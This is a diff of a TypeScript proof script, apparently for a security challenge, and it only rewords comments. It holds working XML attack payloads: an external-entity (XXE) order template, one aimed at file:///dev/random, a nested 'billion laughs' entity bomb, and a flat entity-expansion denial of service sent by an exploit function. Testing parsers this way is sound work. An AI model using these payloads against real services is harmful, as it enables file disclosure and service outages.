@@ -12,24 +12,24 @@ const sending =
   (attacker) =>
     send(attacker, document, name)
 
-/** An order that holds what stands at an address. */
+/** An order with an external entity from a URL. */
 const orderWith = (address: string) => `<!DOCTYPE order [<!ENTITY xxe SYSTEM "${address}">]><order>&xxe;</order>`
 
-/** An order that holds one entity many times over. */
+/** An order that expands one entity many times. */
 const repeating = (text: string, times: number) =>
   `<!DOCTYPE order [<!ENTITY dos "${text}">]><order>${'&dos;'.repeat(times)}</order>`
 
 /** In UTF-16 with its byte order mark. */
 const inUtf16 = (text: string) => new Uint8Array(Buffer.from(`\uFEFF${text}`, 'utf16le'))
 
-/** Entities, each of which holds the one before ten times. */
+/** Each entity expands the previous one ten times. */
 const LAUGHS = `<!DOCTYPE order [<!ENTITY l0 "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('')}]><order>&l9;</order>`
 const ENDLESS = orderWith('file:///dev/random')
 
 export const proof = prove(challenge, {
   exploit: async (attacker) => {
     await send(attacker, '<!DOCTYPE order [<!ENTITY mine "twelve bottles">]><order>&mine;</order>')
-    // Entities of entities are refused; one long entity many times over is not.
+    // The parser refuses nested entities, but not one long entity expanded many times.
     await send(attacker, LAUGHS)
     await send(attacker, repeating('dos'.repeat(15_000), 9000))
   },
